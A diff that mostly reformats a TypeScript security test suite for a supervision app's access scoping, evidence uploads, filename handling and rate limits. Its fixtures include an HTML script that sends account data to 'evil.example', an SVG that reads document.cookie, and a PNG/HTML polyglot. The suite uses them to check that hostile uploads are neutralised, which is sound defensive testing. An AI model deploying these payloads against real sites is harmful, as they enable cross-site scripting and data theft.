@@ -17,8 +17,12 @@ const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer 
 const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)]);
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
 const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(100)]);
-const HTML = Buffer.from('<html><body><script>fetch("/api/accounts").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>');
-const SVG = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
+const HTML = Buffer.from(
+  '<html><body><script>fetch("/api/accounts").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>',
+);
+const SVG = Buffer.from(
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>',
+);
 /** A real PNG signature with a page after it: accepted as an image, and must never be rendered as a page. */
 const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><script>alert(document.domain)</script></html>')]);
 
@@ -36,14 +40,23 @@ describe('scoping, files and upload limits under hostile use', () => {
 
   async function newAgent(role: Role, unitCode?: string) {
     const username = `h-${role}-${randomBytes(3).toString('hex')}`;
-    const view = await t.app.get(AccountService).create({ username, password: randomBytes(18).toString('base64url'), role, unitCode }, { actor: 'system', actorName: 'test' });
+    const view = await t.app
+      .get(AccountService)
+      .create(
+        { username, password: randomBytes(18).toString('base64url'), role, unitCode },
+        { actor: 'system', actorName: 'test' },
+      );
     const user = { accountId: view.id, username, role, unitCode: view.unitCode, personId: null, personName: null };
     const token = () => t.app.get(TokenService).issue(user, 0);
     return agentWith(t.app.getHttpServer(), () => `Bearer ${token()}`);
   }
   const evidence = (agent: any, problem: string, content: Buffer, filename: string, contentType = 'application/pdf') =>
     agent.post(`/api/problems/${problem}/files`).attach('file', content, { filename, contentType });
-  const filesOf = async (problemId: string) => (await t.db.query(`SELECT id, name FROM evidence_file WHERE problem_id = $1 ORDER BY created_at`, [problemId])) as { id: string; name: string }[];
+  const filesOf = async (problemId: string) =>
+    (await t.db.query(`SELECT id, name FROM evidence_file WHERE problem_id = $1 ORDER BY created_at`, [problemId])) as {
+      id: string;
+      name: string;
+    }[];
 
   beforeAll(async () => {
     filesDir = path.join(emptyDir(), 'evidence');
@@ -51,15 +64,25 @@ describe('scoping, files and upload limits under hostile use', () => {
     t.clock.pin(MONDAY);
     await deploySupervision(t);
     await seedUnits(t);
-    const rows = [problemRow(1, { 编号: 'PA-1', 牵头单位: '市环保局', 责任单位: '市城管局' }), problemRow(2, { 编号: 'PB-1', 牵头单位: '市水利局', 责任单位: null })];
+    const rows = [
+      problemRow(1, { 编号: 'PA-1', 牵头单位: '市环保局', 责任单位: '市城管局' }),
+      problemRow(2, { 编号: 'PB-1', 牵头单位: '市水利局', 责任单位: null }),
+    ];
     const created = (await importFile(t, await problemSheet(rows))).created as { id: string; code: string }[];
     A.problem = created.find((p) => p.code === 'PA-1')!.id;
     B.problem = created.find((p) => p.code === 'PB-1')!.id;
-    for (const [x, code] of [[A, 'PA-1'], [B, 'PB-1']] as const) {
+    for (const [x, code] of [
+      [A, 'PA-1'],
+      [B, 'PB-1'],
+    ] as const) {
       x.code = code;
-      x.task = (await t.db.query(`SELECT id FROM engine_task WHERE business_key = $1 AND activity_id = 'sign'`, [code]))[0].id;
+      x.task = (
+        await t.db.query(`SELECT id FROM engine_task WHERE business_key = $1 AND activity_id = 'sign'`, [code])
+      )[0].id;
       x.file = (await evidence(t.http, x.problem, PDF, `${code}.pdf`).expect(201)).body.id;
-      x.action = (await t.app.get(LaggingService).markLagging(x.problem, { reason: '月度进展未报送', period: '2026-02' }))!.id;
+      x.action = (await t.app
+        .get(LaggingService)
+        .markLagging(x.problem, { reason: '月度进展未报送', period: '2026-02' }))!.id;
     }
     await t.http.post('/api/persons').send({ name: '李四', unitCode: 'SLJ', role: 'handler' }).expect(201);
   });
@@ -84,7 +107,9 @@ describe('scoping, files and upload limits under hostile use', () => {
   }
 
   describe("a unit account and another unit's records", () => {
-    const unitRules = ACCESS_RULES.filter((r) => r.allow !== 'public' && r.allow.includes('unit') && r.scope && 'resource' in r.scope);
+    const unitRules = ACCESS_RULES.filter(
+      (r) => r.allow !== 'public' && r.allow.includes('unit') && r.scope && 'resource' in r.scope,
+    );
 
     it("answers every verb it may call on another unit's record, and on one that does not exist, with the same 403", async () => {
       const unitA = await t.as('unit', 'HBJ');
@@ -92,7 +117,10 @@ describe('scoping, files and upload limits under hostile use', () => {
       const seen: string[] = [];
       for (const rule of unitRules) {
         const method = rule.method.toLowerCase();
-        const call = (url: string) => (method === 'post' && rule.path.endsWith('/files') ? evidence(unitA, url.split('/')[3], PDF, 'x.pdf') : (unitA as any)[method](url).send(bodyFor(rule)));
+        const call = (url: string) =>
+          method === 'post' && rule.path.endsWith('/files')
+            ? evidence(unitA, url.split('/')[3], PDF, 'x.pdf')
+            : (unitA as any)[method](url).send(bodyFor(rule));
         const theirs = await call(urlFor(rule, B, resourceOf(rule, B)));
         const none = await call(urlFor(rule, { file: randomUUID() }, randomUUID()));
         expect([rule.path, theirs.status, theirs.body]).toEqual([rule.path, 403, REFUSED_403]);
@@ -101,8 +129,17 @@ describe('scoping, files and upload limits under hostile use', () => {
         seen.push(`${rule.method} ${rule.path}`);
       }
       // By code too, and with a made-up code.
-      for (const code of ['PB-1', 'PZ-404']) expect((await unitA.get(`/api/problems/${code}`).expect(403)).body).toEqual(REFUSED_403);
-      expect(seen).toEqual(expect.arrayContaining(['POST /api/problems/:id/files', 'GET /api/files/:id', 'POST /api/tasks/:id/complete', 'POST /api/problems/:id/extension', 'GET /api/supervision/actions/:id.docx']));
+      for (const code of ['PB-1', 'PZ-404'])
+        expect((await unitA.get(`/api/problems/${code}`).expect(403)).body).toEqual(REFUSED_403);
+      expect(seen).toEqual(
+        expect.arrayContaining([
+          'POST /api/problems/:id/files',
+          'GET /api/files/:id',
+          'POST /api/tasks/:id/complete',
+          'POST /api/problems/:id/extension',
+          'GET /api/supervision/actions/:id.docx',
+        ]),
+      );
       // The office sees the difference: a 404 for what does not exist.
       await t.http.get(`/api/problems/${randomUUID()}`).expect(404);
       await t.http.get(`/api/files/${randomUUID()}`).expect(404);
@@ -113,11 +150,12 @@ describe('scoping, files and upload limits under hostile use', () => {
       const [task] = await t.db.query(`SELECT assignee FROM engine_task WHERE id = $1`, [B.task]);
       expect(task).toEqual({ assignee: null });
       expect(await t.db.query(`SELECT id FROM engine_instance WHERE definition_key = 'extension'`)).toEqual([]);
-      const refusals = (await t.http.get('/api/audit').query({ action: 'access.refused', pageSize: 200 }).expect(200)).body.items;
+      const refusals = (await t.http.get('/api/audit').query({ action: 'access.refused', pageSize: 200 }).expect(200))
+        .body.items;
       expect(refusals.length).toBeGreaterThanOrEqual(unitRules.length * 2);
     });
 
-    it("reads a file of another problem through its own problem as not found, exactly like a file that does not exist", async () => {
+    it('reads a file of another problem through its own problem as not found, exactly like a file that does not exist', async () => {
       const unitA = await t.as('unit', 'HBJ');
       const other = await unitA.get(`/api/problems/${A.problem}/files/${B.file}`).expect(404);
       const none = await unitA.get(`/api/problems/${A.problem}/files/${randomUUID()}`).expect(404);
@@ -128,10 +166,18 @@ describe('scoping, files and upload limits under hostile use', () => {
 
     it('lists only its own unit whatever unit a filter names', async () => {
       const unitA = await t.as('unit', 'HBJ');
-      for (const url of ['/api/problems?unit=SLJ', '/api/supervision/actions?unit=SLJ', '/api/persons?unit=SLJ', '/api/inbox?unit=SLJ', `/api/supervision/actions?problemId=${B.problem}`, '/api/problems?q=PB-1']) {
+      for (const url of [
+        '/api/problems?unit=SLJ',
+        '/api/supervision/actions?unit=SLJ',
+        '/api/persons?unit=SLJ',
+        '/api/inbox?unit=SLJ',
+        `/api/supervision/actions?problemId=${B.problem}`,
+        '/api/problems?q=PB-1',
+      ]) {
         const res = await unitA.get(url);
         expect([url, res.status]).toEqual([url, 200]);
-        for (const secret of ['PB-1', B.problem, B.action, '李四']) expect([url, res.text.includes(secret)]).toEqual([url, false]);
+        for (const secret of ['PB-1', B.problem, B.action, '李四'])
+          expect([url, res.text.includes(secret)]).toEqual([url, false]);
       }
       const mine = await unitA.get('/api/supervision/actions?unit=SLJ').expect(200);
       expect(mine.body.items.map((a: { id: string }) => a.id)).toEqual([A.action]);
@@ -147,7 +193,23 @@ describe('scoping, files and upload limits under hostile use', () => {
         const agent = await t.as(role);
         for (const rule of writes) {
           const method = rule.method === '*' ? 'post' : rule.method.toLowerCase();
-          const url = fillPath(rule.path.replace('/api/admin/clock/**', '/api/admin/clock/pin').replace('/engine-rest/**', '/engine-rest/message'), (name) => (name === 'fileId' ? B.file : name === 'month' ? '2026-02' : name === 'year' ? '2026' : name === 'code' ? 'PM25' : rule.scope && 'resource' in rule.scope ? resourceOf(rule, B) : B.action));
+          const url = fillPath(
+            rule.path
+              .replace('/api/admin/clock/**', '/api/admin/clock/pin')
+              .replace('/engine-rest/**', '/engine-rest/message'),
+            (name) =>
+              name === 'fileId'
+                ? B.file
+                : name === 'month'
+                  ? '2026-02'
+                  : name === 'year'
+                    ? '2026'
+                    : name === 'code'
+                      ? 'PM25'
+                      : rule.scope && 'resource' in rule.scope
+                        ? resourceOf(rule, B)
+                        : B.action,
+          );
           const res = await (agent as any)[method](url).send(bodyFor(rule));
           expect([role, rule.method, rule.path, res.status]).toEqual([role, rule.method, rule.path, 403]);
         }
@@ -194,7 +256,12 @@ describe('scoping, files and upload limits under hostile use', () => {
         const down = await t.http.get(`/api/files/${up.body.id}`).expect(200);
         const cd = down.headers['content-disposition'];
         // attachment; an ASCII fallback without quotes or backslashes; the real name percent-encoded (RFC 5987).
-        expect([raw, cd]).toEqual([raw, expect.stringMatching(/^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!-]*$/)]);
+        expect([raw, cd]).toEqual([
+          raw,
+          expect.stringMatching(
+            /^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!-]*$/,
+          ),
+        ]);
         expect(decodeURIComponent(cd.split("UTF-8''")[1])).toBe(stored);
         expect(down.headers['set-cookie']).toBeUndefined();
         expect(down.headers['content-type']).toBe('application/pdf');
@@ -209,7 +276,10 @@ describe('scoping, files and upload limits under hostile use', () => {
       const up = await evidence(office, A.problem, PDF, 'a\u0000b.pdf');
       expect(up.status).toBeLessThan(500);
       if (up.status === 201) expect(up.body.name).not.toContain('\u0000');
-      const note = await office.post(`/api/problems/${A.problem}/files`).field('note', 'x\u0000y').attach('file', PDF, { filename: 'n.pdf', contentType: 'application/pdf' });
+      const note = await office
+        .post(`/api/problems/${A.problem}/files`)
+        .field('note', 'x\u0000y')
+        .attach('file', PDF, { filename: 'n.pdf', contentType: 'application/pdf' });
       expect([400, 422]).toContain(note.status);
       expect(note.text).not.toMatch(/invalid byte sequence|QueryFailedError/);
     });
@@ -261,15 +331,27 @@ describe('scoping, files and upload limits under hostile use', () => {
       const before = (await filesOf(B.problem)).length;
       for (let i = 0; i < UPLOADS_PER_MIN - 1; i++) await evidence(hasty, B.problem, PDF, `第${i}张.pdf`).expect(201);
       // A refused import counts too: the upload was made.
-      await hasty.post('/api/problems/import').attach('file', Buffer.from('not a workbook'), 'problems.xlsx').expect(422);
+      await hasty
+        .post('/api/problems/import')
+        .attach('file', Buffer.from('not a workbook'), 'problems.xlsx')
+        .expect(422);
 
       const limited = await evidence(hasty, B.problem, PDF, 'one-more.pdf').expect(429);
-      expect(limited.body).toEqual({ statusCode: 429, error: 'TOO_MANY_REQUESTS', message: expect.stringContaining(`上传超过 ${UPLOADS_PER_MIN} 次`), retryAfterSeconds: expect.any(Number), limit: UPLOADS_PER_MIN });
+      expect(limited.body).toEqual({
+        statusCode: 429,
+        error: 'TOO_MANY_REQUESTS',
+        message: expect.stringContaining(`上传超过 ${UPLOADS_PER_MIN} 次`),
+        retryAfterSeconds: expect.any(Number),
+        limit: UPLOADS_PER_MIN,
+      });
       const wait = Number(limited.headers['retry-after']);
       expect(wait).toBe(limited.body.retryAfterSeconds);
       expect(wait).toBeGreaterThanOrEqual(1);
       expect(wait).toBeLessThanOrEqual(60);
-      await hasty.post('/api/problems/import').attach('file', await problemSheet([problemRow(9, { 编号: 'RATE-1' })]), 'problems.xlsx').expect(429);
+      await hasty
+        .post('/api/problems/import')
+        .attach('file', await problemSheet([problemRow(9, { 编号: 'RATE-1' })]), 'problems.xlsx')
+        .expect(429);
       expect((await filesOf(B.problem)).length).toBe(before + UPLOADS_PER_MIN - 1);
       expect((await t.db.query(`SELECT 1 FROM problem WHERE code = 'RATE-1'`)).length).toBe(0);
 
